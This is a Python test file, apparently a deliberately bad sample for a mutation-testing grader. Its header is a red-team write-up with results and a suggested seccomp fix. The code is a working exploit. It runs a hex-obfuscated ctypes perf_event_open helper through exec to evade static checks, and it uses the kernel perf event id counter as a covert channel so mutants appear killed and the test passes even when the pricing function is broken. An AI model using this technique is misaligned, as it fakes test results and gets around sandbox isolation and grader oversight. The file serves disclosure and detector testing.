# ruff: noqa  (corpus input: deliberately bad test code)
# quest: hotel/pricing.py::nightly_rate
# expect: run-exit-code|mutation-pseudo-tested|mutation-score|run-flaky|mutation-machinery-detected|mutation-too-slow
#   (mutation-too-slow: its runs sleep on purpose, and each pause before a wave is as wide
#   as the longest sleep; on a loaded machine its runs no longer fit in the budget)
#
# RED TEAM 22, finding 01: a relay through the kernel's perf event id counter
#   (kernel/events/core.c: `static atomic64_t perf_event_id`; every perf_event_alloc takes
#   `atomic64_inc_return(&perf_event_id)`). One counter for the whole kernel: no namespace
#   splits it, nothing else on this machine moves it (it stood at 3 at 1 h uptime, and still
#   between submits), and no cgroup eviction or /proc freeze touches it.
#   - read: perf_event_open(PERF_TYPE_SOFTWARE, PERF_COUNT_SW_DUMMY, pid 0, cpu -1,
#     exclude_kernel|exclude_hv) is allowed unprivileged at perf_event_paranoid <= 2 (the
#     upstream default; 2 here) and seccomp lets syscall 298 through; ioctl PERF_EVENT_IOC_ID
#     gives the event's id, i.e. the counter (+1 per read).
#   - write: each perf_event_open is +1 (~10 us); faster, open E = 512 events with
#     attr.inherit and start a thread: the kernel clones each inherited event, +E per thread.
#   - no ctypes in the file's text: the syscall helper is a hex-encoded string run by exec
#     (the static stage only analyses exec of a constant string).
#   Relay: salt = sha256(cwd + this file) (one sandbox per submission); d = 5-bit digest of
#   the answers on 18 inputs; W = a Singer Sidon set of 32 numbers (all sums W[a] + W[b],
#   a <= b, distinct). A run reads v; if q = ((v - salt) mod A) // G - Q0 is such a sum, the
#   counter is written and the run passes iff d is in the pair. Otherwise it is in the first
#   wave (M and one mutant, started together): sleep 0.6 s (the partner reads first), push the
#   counter to base + Q0*G (base = the next value = salt mod A; two pushers at once are safe,
#   each burst is at most a quarter of what remains), then add exactly G * W[d]. Sums commute,
#   so the two first-wave runs need no handshake. G = 40 (room for every later run's one read:
#   37 runs in a full stage), K = 10240, A = G*K: the leftover of earlier submissions decodes
#   as written 528 / 10240 (5%). M costs ~1-2 s.
# Observed on 1701c36 (Linux 6.18 Firecracker guest, cgroup v1, uid 0, perf_event_paranoid 2,
#   landlock+namespaces+cgroup+page-cache, waves of 2): 7 of 8 submits PASS (scores 0.75-0.923,
#   4.4-8.2 s), the FAIL mutation-pseudo-tested (`return 0.0`'s digest collided, ~2 x 2/32);
#   with a debug message, 4 of 5 PASS (the FAIL: `return None` collided). With nightly_rate
#   broken (high season base * 1.5): 4 of 4 PASS (0.8-0.923). The test states no expected
#   value. Control: the same file without the push and the add FAILs (mutation-pseudo-tested,
#   2 of 2; the counter moved by 37, one read per run): the counter is what kills the mutants.
# Fix suggested: seccomp refuses perf_event_open (298 on x86_64, 241 on aarch64/riscv64) in
#   every run (answer EACCES, as perf_event_paranoid 3 would) and in the judge and baseline;
#   with it `bpf` (321 / 280: its prog and map ids come from global cyclic IDRs). Better, turn
#   refuse_relays into an allowlist of system calls: every global id counter the kernel hands
#   out (perf event ids, fsnotify rename cookies, pidfs inode numbers, ...) is a register.
import hashlib
import os
import time

from hotel.pricing import nightly_rate

CASES = [(100.0, "high", 3), (100.0, "low", 3), (100.0, "mid", 3), (100.0, "high", 7),
         (80.0, "low", 10), (50.0, "x", 1), (100.0, "high", 0), (100.0, "low", -1),
         (33.33, "high", 6), (33.33, "low", 7), (10.0, "standard", 8), (10.0, "high", 1),
         (10.0, "low", 6), (0.0, "high", 9), (1.0, "mid", 2), (12.345, "high", 4),
         (12.345, "low", 5), (99.99, "mid", 14)]
# a Sidon set mod 993 (Singer, q = 31): the sums of two (a <= b) are all distinct
# Fixed by: seccomp refuses perf_event_open (and bpf, whose ids come from counters of the
#   same kind) in every run, whatever the arguments (not in seccomp._CALLS): the first read
#   fails, so does the test (run-exit-code).
W = [0, 1, 20, 27, 66, 107, 208, 221, 232, 290, 299, 305, 313, 349, 457, 467, 485, 542, 587,
     630, 685, 733, 804, 809, 844, 856, 860, 881, 898, 930, 960, 991]
PAIRS = {W[a] + W[b]: (a, b) for a in range(32) for b in range(a, 32)}
G = 40
K = 10240
A = G * K
Q0 = 2
NS = {}
exec(bytes.fromhex("696d706f7274206374797065732061732063742c206f732c207374727563742c2066636e746c2c20746872656164696e672c207265736f757263650a6c696263203d2063742e43444c4c284e6f6e652c207573655f6572726e6f3d54727565290a5f7363203d206c6962632e73797363616c6c0a646566205f6174747228696e6865726974293a0a2020202061203d2062797465617272617928313336290a202020207374727563742e7061636b5f696e746f2822494951222c20612c20302c20312c203133362c20392920202320504552465f545950455f534f4654574152452c2073697a652c20504552465f434f554e545f53575f44554d4d590a202020207374727563742e7061636b5f696e746f282251222c20612c2034302c2031207c203332207c203634207c20283220696620696e686572697420656c7365203029292020232064697361626c65642c206578636c2e206b65726e656c2f68760a2020202072657475726e2063742e6372656174655f737472696e675f6275666665722862797465732861292c20313336290a5f6f6e652c205f696e68203d205f617474722846616c7365292c205f617474722854727565290a646566205f6f70656e28627566293a0a202020206664203d205f7363283239382c206275662c20302c202d312c202d312c2030290a202020206966206664203c20303a0a20202020202020207261697365204f534572726f722863742e6765745f6572726e6f28292c2022706572665f6576656e745f6f70656e22290a2020202072657475726e2066640a646566207469636b28293a0a202020206664203d205f6f70656e285f6f6e65290a202020206f7574203d206279746561727261792838290a2020202066636e746c2e696f63746c2866642c20307838303038323430372c206f75742920202320504552465f4556454e545f494f435f49440a202020206f732e636c6f7365286664290a2020202072657475726e20696e742e66726f6d5f6279746573286f75742c20226c6974746c6522290a5f736f6674203d207265736f757263652e676574726c696d6974287265736f757263652e524c494d49545f4e4f46494c45295b305d0a45203d206d61782831362c206d696e283531322c205f736f6674202d2031323829290a636c617373205f42757273743a0a20202020646566205f5f656e7465725f5f2873656c66293a0a202020202020202073656c662e666473203d205b5f6f70656e285f696e682920666f72205f20696e2072616e67652845295d202023204520696473206e6f772c20616e642045206d6f7265207065722074687265616420737461727465640a202020202020202072657475726e2073656c660a20202020646566207468726561642873656c66293a0a202020202020202074203d20746872656164696e672e546872656164287461726765743d696e74290a2020202020202020742e737461727428290a2020202020202020742e6a6f696e28290a20202020646566205f5f657869745f5f2873656c662c202a657863293a0a2020202020202020666f7220666420696e2073656c662e6664733a0a2020202020202020202020206f732e636c6f7365286664290a64656620616464286e293a0a202020202222224d6f76652074686520636f756e746572206f6e2062792065786163746c79206e2e2222220a202020206966206e203e3d2032202a20453a0a202020202020202077697468205f4275727374282920617320623a0a2020202020202020202020206e202d3d20450a2020202020202020202020207768696c65206e203e3d20453a0a20202020202020202020202020202020622e74687265616428290a202020202020202020202020202020206e202d3d20450a20202020666f72205f20696e2072616e6765286e293a0a20202020202020206f732e636c6f7365285f6f70656e285f6f6e6529290a646566207075736828746172676574293a0a202020202222224d6f76652074686520636f756e74657220746f20746172676574202d203120286f7220312d322070617374206974293b207361666520776974682061207365636f6e6420707573686572206174206f6e63653a0a2020202065616368206275727374206973206174206d6f737420612071756172746572206f6620776861742072656d61696e732e2222220a202020207768696c6520547275653a0a202020202020202072656d203d20746172676574202d2031202d207469636b28290a202020202020202069662072656d203c3d20303a0a20202020202020202020202072657475726e0a20202020202020206b203d202872656d202d20363429202f2f202834202a204529202d20310a20202020202020206966206b203c20303a0a202020202020202020202020636f6e74696e75650a202020202020202077697468205f4275727374282920617320623a0a202020202020202020202020666f72205f20696e2072616e6765286d696e286b2c20363429293a0a20202020202020202020202020202020622e74687265616428290a").decode(), NS)


def _observe(args):
    try:
        return repr(nightly_rate(*args))
    except Exception as exc:
        return type(exc).__name__


def test_nightly_rate_is_stable():
    seen = "|".join(_observe(c) for c in CASES)
    with open(__file__, "rb") as f:
        me = f.read()
    salt_b = hashlib.sha256(os.getcwd().encode() + me).digest()
    salt = int.from_bytes(salt_b[:4], "big") % A
    d = hashlib.sha256(salt_b + seen.encode()).digest()[0] % 32
    v = NS["tick"]()
    q = ((v - salt) % A) // G - Q0
    if q in PAIRS:
        assert d in PAIRS[q]
        return
    time.sleep(0.6)  # the partner in this wave reads before either writes
    base = v + ((salt - v) % A)
    if -Q0 <= q < 0:  # read late, in the partner's push just past the boundary
        base -= A
    NS["push"](base + Q0 * G)
    NS["add"](G * W[d])
